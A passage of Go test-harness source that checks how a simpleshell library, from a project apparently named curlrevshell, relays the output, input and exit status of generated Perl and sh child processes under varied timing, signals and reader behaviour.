						r.Count("leave_unsuccessful_exit_reported", 1)
					}
					if wrote {
						// the class the dimension is about: left, wrote again, failed
						r.Count("leave_unsuccessful_exit_after_further_writes_cases", 1)
						r.Count("leave_"+kind+"_after_further_writes_cases", 1)
						r.Count("leave_unsuccessful_exit_after_further_writes_"+e.Moment+"_cases", 1)
					}
				}
			}
		}
		if res.wall > 4*time.Second {
			r.Count("leave_cases_longer_than_4s", 1)
			r.Logf("leave case %d took %s: %s", i, res.wall.Round(time.Millisecond), e.sig())
		}
		if r.Replaying() {
			w := witnessLeave(e, res, v, dir)
			delete(w, "child_script")
			r.Logf("leave case %d: %v", i, w)
		}
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(leaveEngine, i, f.key, e.desc()+": "+f.what, witnessLeave(e, res, v, dir))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		mu.Lock()
		take := !sampled[e.Moment] && res.left && len(e.C.Ops) <= 40 && e.wroteAfterLeave(res) && res.procKnown && !res.procSuccess
		if take {
			sampled[e.Moment] = true
		}
		mu.Unlock()
		if take {
			r.Sample("leave", witnessLeave(e, res, v, dir))
		}
	}

	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(leaveEngine, i) {
				one(i)
			}
		}
		return
	}
	mon.Parallel(n, leaveWorkers, one)

	N := int64(n)
	r.Floor("leave_cases", N)
	r.Floor("leave_go_returned_cases", N-N/16)
	r.Floor("leave_consumer_left_while_child_running_cases", N*3/4)
	for _, m := range []string{"before", "after", "while-paced", "while-blocked", "cat"} {
		r.Floor("leave_moment_"+m+"_cases", N/10)
	}
	r.Floor("leave_how_close_cases", N/4)
	r.Floor("leave_how_close-lag_cases", N/16)
	r.Floor("leave_how_close-with-error_cases", N/16)
	r.Floor("leave_how_close-during-read_cases", N/64)
	r.Floor("leave_pending_read_ended_by_close_cases", N/64)
	r.Floor("leave_after_0_bytes_cases", N/16)
	r.Floor("leave_after_1_pipe_buffer_or_more_cases", N/5)
	r.Floor("leave_after_2_pipe_buffers_or_more_cases", N/10)
	r.Floor("leave_with_unread_output_cases", N/4)
	r.Floor("leave_child_wrote_after_consumer_left_cases", N/3)
	r.Floor("leave_child_wrote_nothing_after_consumer_left_cases", N/16)
	r.Floor("leave_child_in_a_write_of_several_pipe_buffers_cases", N/16)
	r.Floor("leave_clean_exit_cases", N/16)
	r.Floor("leave_unsuccessful_exit_cases", N/2)
	r.Floor("leave_nonzero_exit_cases", N/5)
	r.Floor("leave_signal_exit_cases", N/8)
	for _, sg := range sigSet {
		r.Floor("leave_signal_exit_cases_"+sg, N/64)
	}
	r.Floor("leave_child_killed_by_context_cases", N/16)
	r.Floor("leave_child_ended_by_its_sigterm_handler_cases", N/16)
	r.Floor("leave_unsuccessful_exit_after_further_writes_cases", N/3)
	r.Floor("leave_nonzero_exit_after_further_writes_cases", N/8)
	r.Floor("leave_signal_exit_after_further_writes_cases", N/12)
	r.Floor("leave_ended_by_context_after_further_writes_cases", N/16)
	for _, m := range []string{"before", "while-paced", "cat"} {
		r.Floor("leave_unsuccessful_exit_after_further_writes_"+m+"_cases", N/32)
	}
	for _, k := range []string{"none", "open-pipe", "open-pipe-data", "open-osfile", "eof-reader", "data-drain", "cat-data"} {
		r.Floor("leave_input_"+k+"_cases", N/40)
	}
}

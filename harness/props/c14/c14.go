// Package c14: simpleshell.CmdShell relays everything the wrapped command
// writes before it reports EOF, passes stdin through unchanged, ends the
// output stream once the command has exited, and reports an unsuccessful exit.
//
// Every case runs a generated child program (perl, sometimes /bin/sh + dd)
// through simpleshell.NewCmdShell.  The child writes a position-coded pattern
// in alphabet a–z on stdout and A–Z on stderr (so the merged stream can be
// split again), or copies its stdin to stdout (cat mode, arbitrary bytes).
// The harness reads Output() with a scripted consumer (fast, odd chunk sizes,
// slow, or starting only after the child has exited) and records the terminal
// condition of Output() and the return value of Go.  The child ends by exit N
// or, in every 5th case, by a signal it sends to itself after its last write
// and its report (ExitCode() is -1 then): Go must return an error either way
// unless N is 0.
//
// A second engine (e2e.go) runs the same children through simpleshell.Go
// against a harness HTTPS server that reads the request body on a script and
// writes input to the response, some of it after the child has exited; there
// the stream whose end is judged is the request body as the server sees it.
//
// A third engine (ctx.go) varies how the *exec.Cmd was built (exec.Command,
// exec.CommandContext with the default / a SIGTERM / no Cancel, with or without
// a WaitDelay of the caller's own) and cancels the command's context at a
// scripted point of the child's plan while a scripted amount of output is
// unread and the consumer stalls for up to several seconds.
//
// A fourth and a fifth engine (leave.go, leave_e2e.go) let the consumer go away
// instead of reading to the end: it closes the reader Output() returned (or the
// HTTPS server stops reading the request body and drops the connection) while
// the child is running; the child writes again and ends in every way the other
// engines know, and an unsuccessful end must still come back from Go as an error.
//
// A sixth engine (input.go) is about the input side: content whose chunks begin
// and end with byte sequences some layer might treat specially (byte order
// marks, NUL, ^D, CR/LF, escape sequences, IAC, "~." ...) goes through every
// kind of reader a caller may give to SetInput, and through the response body
// of simpleshell.Go, to a cat-like child that must see exactly those bytes and
// the end of its input exactly when the reader ends.
//
// A seventh engine (cli.go) builds the command-line tool
// lib/simpleshell/cmd/simpleshell, runs it as a child process against the
// harness HTTPS server under every documented source of its three settings
// (flags, SIMPLESHELL_* variables, -ldflags -X values) with servers that lag up
// to 6 s behind the command's end, and requires the same of the request body
// plus a report by the tool (exit status or anything on its own descriptors)
// of an unsuccessful end of the command.
package c14

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const Level = "exploration"

const (
	engine   = "case"
	workers  = 16
	pipeCap  = 65536 // Linux default pipe capacity
	maxRetry = 2     // timed-out cases re-run alone
)

// pos is the position code shared by both alphabets.
// It has period 251*26 = 6526, which the child uses to build long patterns.
func pos(o int) int { return (o*7 + o/251) % 26 }

// ---- case description -------------------------------------------------------

type op struct {
	K string // w1 w2 (write N bytes to fd 1/2), c1 c2 (close), E (drain stdin to EOF), I (read exactly N bytes of stdin and log them), R (report done), P (pre-announce report), S (sleep N µs), Q (progress report: the counters so far, kind partial), G (wait until the file go - goN when N is not 0 - exists in the case directory), T (ignore SIGTERM from here on)
	N int
	P int // pause after the op, µs
}

type stdinSpec struct {
	Kind        string `json:"kind"` // none | open-unread | data-reader | data-osfile
	N           int    `json:"bytes"`
	Chunks      []int  `json:"chunk_sizes,omitempty"`
	DelaysUs    []int  `json:"delays_us,omitempty"`
	EOFDelayMs  int    `json:"eof_delay_ms"`
	EOFWithLast bool   `json:"eof_with_last_chunk"`
}

type consumerSpec struct {
	Kind       string `json:"kind"` // fast | chunked | slow | after-exit
	Chunks     []int  `json:"chunk_sizes"`
	DelaysUs   []int  `json:"delays_us"`
	MaxWaitMs  int    `json:"max_wait_for_exit_ms,omitempty"`
	PostExitMs int    `json:"pause_after_exit_ms,omitempty"`
}

type spec struct {
	Index      int
	Mode       string // pattern | cat
	Flavor     string // perl | sh
	NOut, NErr int
	WOut, WErr string
	Interleave string
	Ops        []op
	Exit       int
	Sig        string // "" or the name of the signal the child kills itself with instead of calling exit
	ExitMode   string // immediate | linger | after-report
	LingerMs   int
	CloseEarly string
	Stdin      stdinSpec
	Cons       consumerSpec
	CatRead    int
	CatPauseUs int
	ShConc     bool
	data       []byte // stdin payload
}

var sizeSet = []int{0, 1, 10, 4095, 4096, 4097, 65535, 65536, 65537, 2 * 65536, 4 * 65536}
var smallSizeSet = []int{0, 1, 10, 4095, 4096, 4097, 65535, 65536}
var exitSet = []int{0, 0, 0, 1, 3, 255}

// sigSet: the signals a child ends itself with (every 5th pattern case and
// every 5th cat case).  All of them terminate a process that has not asked
// otherwise; SEGV and ABRT would also dump core (RLIMIT_CORE is set to 0).
var sigSet = []string{"KILL", "TERM", "SEGV", "ABRT", "HUP", "USR1"}
var sigNum = map[string]syscall.Signal{"KILL": syscall.SIGKILL, "TERM": syscall.SIGTERM, "SEGV": syscall.SIGSEGV, "ABRT": syscall.SIGABRT, "HUP": syscall.SIGHUP, "USR1": syscall.SIGUSR1}

// sigFor picks the signal of case i of the case engine by index, so that every
// signal gets the same share whatever the seed.
func sigFor(i int) string {
	switch {
	case i%5 == 2:
		return sigSet[(i/5)%len(sigSet)]
	case i%25 == 9: // a cat-mode case
		return sigSet[(i/25)%len(sigSet)]
	}
	return ""
}

// exitStmt is how the child program ends: exit N, or a signal to itself (the
// fallback exit 99 is never reached unless the signal did not kill).
func (s *spec) exitStmt() string {
	if s.Sig == "" {
		return fmt.Sprintf("exit %d", s.Exit)
	}
	if s.Flavor == "sh" {
		return fmt.Sprintf("kill -s %s $$\nsleep 10\nexit 99", s.Sig)
	}
	return fmt.Sprintf("$SIG{%s} = 'DEFAULT'; kill('%s', $$); select(undef, undef, undef, 10); exit 99", s.Sig, s.Sig)
}

// how the case is meant to end, for messages
func (s *spec) exitDesc() string {
	if s.Sig != "" {
		return "SIG" + s.Sig
	}
	return "exit " + strconv.Itoa(s.Exit)
}

func pick(rng *rand.Rand, s []int) int { return s[rng.IntN(len(s))] }

// writeSizes splits n bytes into syswrite sizes.
func writeSizes(rng *rand.Rand, n int) (sizes []int, desc string) {
	if n == 0 {
		return nil, "-"
	}
	const maxOps = 1200
	ws := []int{1, 7, 100, 512, 4095, 4096, 4097, 32768, 65536, n, -1}
	w := ws[rng.IntN(len(ws))]
	if w == -1 {
		desc = "mixed"
		rem := n
		for rem > 0 {
			k := []int{1, 3, 100, 1000, 4096, 4097, 10000, 32768, 65536}[rng.IntN(9)]
			if len(sizes) > maxOps-2 || k > rem {
				k = rem
			}
			sizes = append(sizes, k)
			rem -= k
		}
		return
	}
	if n/w > maxOps {
		w = n/maxOps + 1
	}
	desc = strconv.Itoa(min(w, n))
	for rem := n; rem > 0; {
		k := w
		if k > rem {
			k = rem
		}
		sizes = append(sizes, k)
		rem -= k
	}
	return
}

func genConsumer(rng *rand.Rand, total int, fits bool, kind string) consumerSpec {
	c := consumerSpec{Kind: kind}
	sub := kind
	if kind == "after-exit" {
		c.MaxWaitMs = 150
		if fits {
			c.MaxWaitMs = 3000
		}
		c.PostExitMs = rng.IntN(30)
		sub = []string{"fast", "slow", "chunked"}[rng.IntN(3)]
	}
	switch sub {
	case "fast":
		c.Chunks, c.DelaysUs = []int{65536}, []int{0}
	case "slow":
		ch := []int{1024, 4096, 4096, 8192}[rng.IntN(4)]
		d := []int{1000, 2000, 2000, 5000}[rng.IntN(4)]
		c.Chunks, c.DelaysUs = []int{ch}, []int{d}
	default:
		n := 1 + rng.IntN(5)
		for i := 0; i < n; i++ {
			ch := []int{1, 2, 7, 100, 512, 4096, 4097, 32768, 65536}[rng.IntN(9)]
			d := 0
			if rng.IntN(10) < 3 {
				d = rng.IntN(3001)
			}
			c.Chunks = append(c.Chunks, ch)
			c.DelaysUs = append(c.DelaysUs, d)
		}
		// budget: at most ~30000 reads and ~2 s of pauses (a pause of any
		// length costs about a millisecond under load)
		for iter := 0; iter < 64; iter++ {
			sum, dsum, smallest, paused := 0, 0, 0, -1
			for i := range c.Chunks {
				sum += c.Chunks[i]
				if c.DelaysUs[i] > 0 {
					dsum += max(c.DelaysUs[i], 1000)
					paused = i
				}
				if c.Chunks[i] < c.Chunks[smallest] {
					smallest = i
				}
			}
			if total*n/sum <= 30000 && (total/sum+1)*dsum <= 2_000_000 {
				break
			}
			if c.Chunks[smallest] < 65536 {
				c.Chunks[smallest] = min(65536, c.Chunks[smallest]*4)
			} else if paused >= 0 {
				c.DelaysUs[paused] = 0
			}
		}
	}
	// budget for the slow reader too
	if total/c.Chunks[0]*c.DelaysUs[0] > 2_500_000 && len(c.Chunks) == 1 {
		c.DelaysUs[0] = 2_500_000 / (total/c.Chunks[0] + 1)
	}
	return c
}

func genStdinFeed(rng *rand.Rand, n int, kind string) stdinSpec {
	s := stdinSpec{Kind: kind, N: n}
	k := 1 + rng.IntN(3)
	for i := 0; i < k; i++ {
		ch := []int{1, 100, 4096, 32768, 65536, 1 << 20}[rng.IntN(6)]
		if ch == 1 && n > 8192 {
			ch = 511
		}
		d := 0
		if rng.IntN(4) == 0 {
			d = rng.IntN(2001)
		}
		if n/ch > 500 {
			d = 0
		}
		s.Chunks = append(s.Chunks, ch)
		s.DelaysUs = append(s.DelaysUs, d)
	}
	if rng.IntN(2) == 0 {
		s.EOFDelayMs = rng.IntN(30)
	}
	s.EOFWithLast = rng.IntN(4) == 0
	return s
}

func fillRand(rng *rand.Rand, b []byte) {
	for i := 0; i+8 <= len(b); i += 8 {
		v := rng.Uint64()
		for j := 0; j < 8; j++ {
			b[i+j] = byte(v >> (8 * j))
		}
	}
	for i := len(b) &^ 7; i < len(b); i++ {
		b[i] = byte(rng.Uint32())
	}
	if len(b) >= 256 { // every byte value is present
		p := rng.Perm(256)
		for i, v := range p {
			b[i] = byte(v)
		}
	}
}

func genSpec(r *mon.Run, i int) *spec {
	rng := r.Rng(engine, i)
	s := &spec{Index: i, Flavor: "perl"}
	kind := []string{"fast", "chunked", "chunked", "slow", "slow", "after-exit", "after-exit", "after-exit"}[rng.IntN(8)]
	set := sizeSet
	if kind == "after-exit" && rng.IntN(10) < 7 {
		set = smallSizeSet
	}
	s.Exit = pick(rng, exitSet)
	if i%5 == 4 { // cat mode: stdin → stdout
		s.Mode = "cat"
		n := pick(rng, set)
		if rng.IntN(4) == 0 {
			n = rng.IntN(4*65536 + 1)
			if kind == "after-exit" && rng.IntN(2) == 0 {
				n = rng.IntN(65537)
			}
		}
		s.NOut = n
		s.data = make([]byte, n)
		fillRand(rng, s.data)
		fk := "data-reader"
		if rng.IntN(4) == 0 {
			fk = "data-osfile"
		}
		s.Stdin = genStdinFeed(rng, n, fk)
		s.CatRead = []int{100, 4096, 65536, 65536}[rng.IntN(4)]
		if n <= 8192 && rng.IntN(4) == 0 {
			s.CatRead = 1
		}
		if rng.IntN(4) == 0 && n/s.CatRead < 400 {
			s.CatPauseUs = rng.IntN(2001)
		}
		s.ExitMode = []string{"after-report", "linger"}[rng.IntN(2)]
		if s.ExitMode == "linger" {
			s.LingerMs = 1 + rng.IntN(50)
		}
		s.Cons = genConsumer(rng, n, n <= pipeCap, kind)
		if s.Sig = sigFor(i); s.Sig != "" {
			s.Exit = 0
		}
		return s
	}

	s.Mode = "pattern"
	s.NOut, s.NErr = pick(rng, set), pick(rng, set)
	switch rng.IntN(8) {
	case 0:
		s.NOut = 0
	case 1:
		s.NErr = 0
	}
	if rng.IntN(10) == 0 {
		s.Flavor = "sh"
	}
	so, do := writeSizes(rng, s.NOut)
	se, de := writeSizes(rng, s.NErr)
	s.WOut, s.WErr = do, de
	// merge
	s.Interleave = []string{"out-first", "err-first", "random", "random", "alternate"}[rng.IntN(5)]
	var ops []op
	add := func(fd int, n int) { ops = append(ops, op{K: "w" + strconv.Itoa(fd), N: n}) }
	switch s.Interleave {
	case "out-first":
		for _, n := range so {
			add(1, n)
		}
		for _, n := range se {
			add(2, n)
		}
	case "err-first":
		for _, n := range se {
			add(2, n)
		}
		for _, n := range so {
			add(1, n)
		}
	default:
		a, b := so, se
		turn := 0
		for len(a) > 0 || len(b) > 0 {
			takeA := len(b) == 0
			if len(a) > 0 && len(b) > 0 {
				if s.Interleave == "alternate" {
					takeA = turn%2 == 0
				} else {
					takeA = rng.IntN(len(a)+len(b)) < len(a)
				}
			}
			if takeA {
				add(1, a[0])
				a = a[1:]
			} else {
				add(2, b[0])
				b = b[1:]
			}
			turn++
		}
	}
	// pauses between writes, 0–5 ms, about two dozen of them at most
	if len(ops) > 0 && rng.IntN(3) != 0 {
		p := 24.0 / float64(len(ops))
		for k := range ops {
			if rng.Float64() < p {
				ops[k].P = rng.IntN(5001)
			}
		}
	}
	// close one descriptor early
	if rng.IntN(5) == 0 && len(ops) > 0 && s.Flavor == "perl" {
		fd := 1 + rng.IntN(2)
		last := -1
		for k, o := range ops {
			if o.K == "w"+strconv.Itoa(fd) {
				last = k
			}
		}
		s.CloseEarly = "c" + strconv.Itoa(fd)
		ins := op{K: s.CloseEarly}
		ops = append(ops[:last+1], append([]op{ins}, ops[last+1:]...)...)
	}
	// stdin
	switch v := rng.IntN(10); {
	case v < 5 || s.Flavor == "sh":
		s.Stdin.Kind = "none"
	case v < 7:
		s.Stdin.Kind = "open-unread"
	default:
		n := []int{0, 1, 1000, 70000}[rng.IntN(4)]
		s.Stdin = genStdinFeed(rng, n, "data-reader")
		s.data = make([]byte, n)
		fillRand(rng, s.data)
		if rng.IntN(10) < 3 {
			ops = append([]op{{K: "E"}}, ops...)
		} else {
			ops = append(ops, op{K: "E"})
		}
	}
	// exit
	switch v := rng.IntN(20); {
	case v < 9:
		s.ExitMode = "immediate"
		ops = append([]op{{K: "P"}}, ops...)
	case v < 16:
		s.ExitMode = "linger"
		s.LingerMs = 1 + rng.IntN(50)
		ops = append(ops, op{K: "R"}, op{K: "S", N: s.LingerMs * 1000})
	default:
		s.ExitMode = "after-report"
		ops = append(ops, op{K: "R"})
	}
	s.Ops = ops
	s.ShConc = rng.IntN(2) == 0
	fits := s.NOut <= pipeCap && s.NErr <= pipeCap
	s.Cons = genConsumer(rng, s.NOut+s.NErr, fits, kind)
	if s.Sig = sigFor(i); s.Sig != "" {
		s.Exit = 0
	}
	return s
}

func (s *spec) sig() string {
	return fmt.Sprintf("%s|%s|%d|%d|%s|%s|%s|%d%s|%s|%d|%s|%s|%d|%v|%v|%s|%v|%v|%d",
		s.Mode, s.Flavor, s.NOut, s.NErr, s.WOut, s.WErr, s.Interleave, s.Exit, s.Sig, s.ExitMode, s.LingerMs, s.CloseEarly,
		s.Stdin.Kind, s.Stdin.N, s.Stdin.Chunks, s.Stdin.DelaysUs, s.Cons.Kind, s.Cons.Chunks, s.Cons.DelaysUs, s.CatRead)
}

// ---- child programs ---------------------------------------------------------

const perlCommon = `$SIG{PIPE} = 'IGNORE';
sub put { my ($f, $s) = @_; open(my $h, '>', "$dir/$f.tmp") or exit 96; print $h $s; close($h); rename("$dir/$f.tmp", "$dir/$f") or exit 96; }
put('pid', "$$\n");
`

func (s *spec) script(dir string) (prog string, text string) {
	var b strings.Builder
	if s.Mode == "cat" {
		fmt.Fprintf(&b, "my $dir = '%s';\n%s", dir, perlCommon)
		fmt.Fprintf(&b, `binmode(STDIN); binmode(STDOUT);
open(my $seen, '>', "$dir/stdin.seen") or exit 96; binmode($seen);
my $wr = 0; my $i = 0;
$SIG{TERM} = sub { put('report', "out=$wr err=0 partial\n"); exit 98; };
while (1) {
	my $b; my $r = sysread(STDIN, $b, %d);
	if (!defined $r) { next if $!{EINTR}; put('report', "out=$wr err=0 partial\n"); exit 97; }
	last if $r == 0;
	(syswrite($seen, $b) // -1) == $r or exit 96;
	my $o = 0;
	while ($o < $r) {
		my $k = syswrite(STDOUT, $b, $r - $o, $o);
		if (!defined $k) { next if $!{EINTR}; put('report', "out=$wr err=0 partial\n"); exit 97; }
		$o += $k; $wr += $k;
	}
	select(undef, undef, undef, %d / 1e6) if %d;
}
close($seen);
put('report', "out=$wr err=0 done\n");
select(undef, undef, undef, %d / 1e3) if %d;
%s;
`, s.CatRead, s.CatPauseUs, s.CatPauseUs, s.LingerMs, s.LingerMs, s.exitStmt())
		return "/usr/bin/perl", b.String()
	}
	if s.Flavor == "sh" {
		fmt.Fprintf(&b, "dir='%s'\necho $$ > $dir/pid.tmp && mv $dir/pid.tmp $dir/pid\n", dir)
		rep := fmt.Sprintf("echo 'out=%d err=%d %%s' > $dir/report.tmp && mv $dir/report.tmp $dir/report\n", s.NOut, s.NErr)
		if s.ExitMode == "immediate" {
			fmt.Fprintf(&b, rep, "pre")
		}
		bs := func(w string) string {
			n, err := strconv.Atoi(w)
			if err != nil || n < 64 {
				return "4096"
			}
			return w
		}
		o := fmt.Sprintf("dd status=none if=$dir/out.dat bs=%s", bs(s.WOut))
		e := fmt.Sprintf("dd status=none if=$dir/err.dat bs=%s >&2", bs(s.WErr))
		if s.NOut <= 64 && s.NOut > 0 {
			o = fmt.Sprintf("printf '%%s' '%s'", pattern(s.NOut, 'a'))
		}
		if s.NErr <= 64 && s.NErr > 0 {
			e = fmt.Sprintf("printf '%%s' '%s' >&2", pattern(s.NErr, 'A'))
		}
		switch {
		case s.ShConc:
			fmt.Fprintf(&b, "%s &\np1=$!\n%s &\np2=$!\nwait $p1 || exit 97\nwait $p2 || exit 97\n", o, e)
		case s.Interleave == "err-first":
			fmt.Fprintf(&b, "%s || exit 97\n%s || exit 97\n", e, o)
		default:
			fmt.Fprintf(&b, "%s || exit 97\n%s || exit 97\n", o, e)
		}
		if s.ExitMode != "immediate" {
			fmt.Fprintf(&b, rep, "done")
		}
		if s.LingerMs > 0 {
			fmt.Fprintf(&b, "sleep 0.%03d\n", s.LingerMs)
		}
		fmt.Fprintf(&b, "%s\n", s.exitStmt())
		return "/bin/sh", b.String()
	}
	fmt.Fprintf(&b, "my $dir = '%s';\n%s", dir, perlCommon)
	fmt.Fprintf(&b, `$| = 1;
sub gen { my ($n, $base) = @_; my $m = $n < 6526 ? $n : 6526; my $s = ''; for (my $o = 0; $o < $m; $o++) { $s .= chr($base + ($o * 7 + int($o / 251)) %% 26); } return $n <= $m ? $s : substr($s x (int($n / $m) + 1), 0, $n); }
my @d = ('', gen(%d, 97), gen(%d, 65));
my @off = (0, 0, 0);
my @fh = (undef, \*STDOUT, \*STDERR);
sub report { put('report', "out=$off[1] err=$off[2] $_[0]\n"); }
$SIG{TERM} = sub { report('partial'); exit 98; };
sub w {
	my ($fd, $len) = @_;
	while ($len > 0) {
		my $k = syswrite($fh[$fd], $d[$fd], $len, $off[$fd]);
		if (!defined $k) { next if $!{EINTR}; report('partial'); exit 97; }
		$off[$fd] += $k; $len -= $k;
	}
}
my @plan = qw(`, s.NOut, s.NErr)
	for k, o := range s.Ops {
		if k > 0 {
			if k%12 == 0 {
				b.WriteString("\n\t")
			} else {
				b.WriteByte(' ')
			}
		}
		fmt.Fprintf(&b, "%s %d %d", o.K, o.N, o.P)
	}
	fmt.Fprintf(&b, `);
for (my $i = 0; $i < @plan; $i += 3) {
	my ($k, $n, $p) = @plan[$i, $i + 1, $i + 2];
	if ($k eq 'w1') { w(1, $n); }
	elsif ($k eq 'w2') { w(2, $n); }
	elsif ($k eq 'c1') { close(STDOUT); }
	elsif ($k eq 'c2') { close(STDERR); }
	elsif ($k eq 'E') { while (1) { my $b; my $r = sysread(STDIN, $b, 65536); next if !defined $r && $!{EINTR}; last if !$r; } }
	elsif ($k eq 'I') { my $need = $n; open(my $seen, '>>', "$dir/stdin.seen") or exit 96; binmode($seen);
		while ($need > 0) { my $b; my $r = sysread(STDIN, $b, $need > 65536 ? 65536 : $need); next if !defined $r && $!{EINTR}; if (!$r) { close($seen); report('partial'); exit 95; } print $seen $b; $need -= $r; }
		close($seen) or exit 96; }
	elsif ($k eq 'R') { report('done'); }
	elsif ($k eq 'P') { put('report', "out=%d err=%d pre\n"); }
	elsif ($k eq 'S') { select(undef, undef, undef, $n / 1e6); }
	elsif ($k eq 'Q') { report('partial'); }
	elsif ($k eq 'G') { my $g = $n ? "go$n" : 'go'; until (-e "$dir/$g") { select(undef, undef, undef, 0.001); } }
	elsif ($k eq 'T') { $SIG{TERM} = 'IGNORE'; }
	select(undef, undef, undef, $p / 1e6) if $p;
}
%s;
`, s.NOut, s.NErr, s.exitStmt())
	return "/usr/bin/perl", b.String()
}

func pattern(n int, base byte) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = base + byte(pos(i))
	}
	return b
}

// ---- /proc helpers ------------------------------------------------------------

type procInfo struct {
	pid   int
	state byte // 0 = no such process
	ppid  int
}

func readPid(dir string) int {
	b, err := os.ReadFile(filepath.Join(dir, "pid"))
	if err != nil {
		return 0
	}
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}

func procStat(pid int) procInfo {
	pi := procInfo{pid: pid}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return pi
	}
	i := bytes.LastIndexByte(b, ')')
	if i < 0 {
		return pi
	}
	f := strings.Fields(string(b[i+1:]))
	if len(f) < 2 {
		return pi
	}
	pi.state = f[0][0]
	pi.ppid, _ = strconv.Atoi(f[1])
	return pi
}

// childState: 0 not started yet, 1 running, 2 exited (zombie or reaped).
func childState(dir string) int {
	pid := readPid(dir)
	if pid == 0 {
		return 0
	}
	pi := procStat(pid)
	if pi.state == 0 || pi.state == 'Z' || pi.state == 'X' {
		return 2
	}
	return 1
}

type report struct {
	Out, Err int
	Kind     string // done | pre | partial
}

func readReport(dir string) *report {
	b, err := os.ReadFile(filepath.Join(dir, "report"))
	if err != nil {
		return nil
	}
	var rp report
	if n, _ := fmt.Sscanf(strings.TrimSpace(string(b)), "out=%d err=%d %s", &rp.Out, &rp.Err, &rp.Kind); n != 3 {
		return nil
	}
	return &rp
}

// ---- running one case -------------------------------------------------------

func nap(d time.Duration, stop <-chan struct{}) bool {
	if d <= 0 {
		select {
		case <-stop:
			return false
		default:
			return true
		}
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-stop:
		return false
	}
}

// scriptedReader is the io.Reader handed to SetInput.
type scriptedReader struct {
	data     []byte
	off, k   int
	sp       stdinSpec
	stop     <-chan struct{}
	eofSlept bool
	handed   *atomic.Int64 // bytes given to the reader's caller
}

func (s *scriptedReader) Read(p []byte) (int, error) {
	if len(p) == 0 {
		return 0, nil
	}
	select {
	case <-s.stop:
		return 0, io.EOF
	default:
	}
	if s.off >= len(s.data) {
		if !s.eofSlept {
			s.eofSlept = true
			nap(time.Duration(s.sp.EOFDelayMs)*time.Millisecond, s.stop)
		}
		return 0, io.EOF
	}
	if !nap(time.Duration(s.sp.DelaysUs[s.k%len(s.sp.DelaysUs)])*time.Microsecond, s.stop) {
		return 0, io.EOF
	}
	n := s.sp.Chunks[s.k%len(s.sp.Chunks)]
	s.k++
	if n > len(p) {
		n = len(p)
	}
	if n > len(s.data)-s.off {
		n = len(s.data) - s.off
	}
	copy(p, s.data[s.off:s.off+n])
	s.off += n
	if s.handed != nil {
		s.handed.Add(int64(n))
	}
	if s.off == len(s.data) && s.sp.EOFWithLast {
		s.eofSlept = true
		return n, io.EOF
	}
	return n, nil
}

type countingWriter struct {
	w io.Writer
	n *atomic.Int64
}

func (c countingWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n.Add(int64(n))
	return n, err
}

type consOut struct {
	got       []byte
	err       error
	afterExit bool
	reads     int
	aborted   bool
}

func consume(out io.Reader, c consumerSpec, dir string, expect int, stop <-chan struct{}) (co consOut) {
	if c.Kind == "after-exit" {
		dl := time.Now().Add(time.Duration(c.MaxWaitMs) * time.Millisecond)
		for time.Now().Before(dl) {
			if childState(dir) == 2 {
				co.afterExit = true
				break
			}
			if !nap(time.Millisecond, stop) {
				co.aborted = true
				return
			}
		}
		if co.afterExit {
			nap(time.Duration(c.PostExitMs)*time.Millisecond, stop)
		}
	}
	co.got = make([]byte, 0, expect+4096)
	buf := make([]byte, 65536)
	for k := 0; ; k++ {
		if !nap(time.Duration(c.DelaysUs[k%len(c.DelaysUs)])*time.Microsecond, stop) {
			co.aborted = true
			return
		}
		n, err := out.Read(buf[:c.Chunks[k%len(c.Chunks)]])
		co.reads++
		co.got = append(co.got, buf[:n]...)
		if err != nil {
			select {
			case <-stop:
				co.aborted = true
			default:
				co.err = err
			}
			return
		}
	}
}

type result struct {
	got          []byte
	termErr      error
	terminated   bool // Output() reported a terminal condition within the bound, on its own
	goErr        error
	goReturned   bool
	goHung       bool
	timedOut     bool // Output() did not end within the bound
	killed       bool // the harness signalled a child that was still alive
	afterExit    bool
	reads        int
	rep          *report
	procKnown    bool
	procExit     int
	procSignaled bool
	procSignal   syscall.Signal
	procState    string
	exitedOnOwn  bool
	seen         []byte
	handed       int  // stdin bytes the shell took from the reader given to SetInput
	stdinCut     bool // the harness ended the input before all of it had been taken
	setupErr     string
	wall         time.Duration
}

func runCase(s *spec, dir string, bound time.Duration) (res *result) {
	res = &result{}
	t0 := time.Now()
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	prog, text := s.script(dir)
	path := filepath.Join(dir, "child")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		res.setupErr = err.Error()
		return
	}
	if s.Flavor == "sh" {
		os.WriteFile(filepath.Join(dir, "out.dat"), pattern(s.NOut, 'a'), 0o644)
		os.WriteFile(filepath.Join(dir, "err.dat"), pattern(s.NErr, 'A'), 0o644)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cmd := exec.CommandContext(ctx, prog, path)
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}

	stop := make(chan struct{}) // closed at teardown: every scripted wait ends
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	stdinStop := make(chan struct{})
	var stdinOnce sync.Once
	var handed atomic.Int64
	// closeStdin ends the input; early = before Go has returned, i.e. while
	// the shell may still have wanted to read it.
	closeStdin := func(early bool) {
		stdinOnce.Do(func() {
			if early && int(handed.Load()) < len(s.data) {
				res.stdinCut = true
			}
			close(stdinStop)
		})
	}
